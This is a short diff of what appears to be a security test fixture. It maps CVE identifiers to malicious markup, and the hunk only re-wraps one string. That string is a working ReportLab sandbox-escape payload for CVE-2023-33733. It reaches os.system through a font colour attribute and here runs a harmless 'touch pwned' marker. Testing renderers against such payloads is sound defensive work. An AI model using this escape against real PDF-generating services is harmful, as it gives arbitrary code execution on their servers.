@@ -17,8 +17,8 @@ SIGN = "pwned"
 
 MARKUP = {
     # ReportLab: an attribute of a colour was evaluated (CVE-2023-33733, CVE-2019-17626)
-    "CVE-2023-33733": "<para><font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('touch pwned') for Word in "
-    "[orgTypeFun('Word', (str,), {'mutated': 1, 'startswith': lambda self, x: 1 == 0, '__eq__': lambda self, x: "
+    "CVE-2023-33733": "<para><font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('touch pwned') for Word "
+    "in [orgTypeFun('Word', (str,), {'mutated': 1, 'startswith': lambda self, x: 1 == 0, '__eq__': lambda self, x: "
     "self.mutate() and self.mutated < 0 and str(self) == x, 'mutate': lambda self: {setattr(self, 'mutated', "
     "self.mutated - 1)}, '__hash__': lambda self: hash(str(self))})]] for orgTypeFun in [type(type(1))]] and 'red'\">"
     "exploit</font></para>",
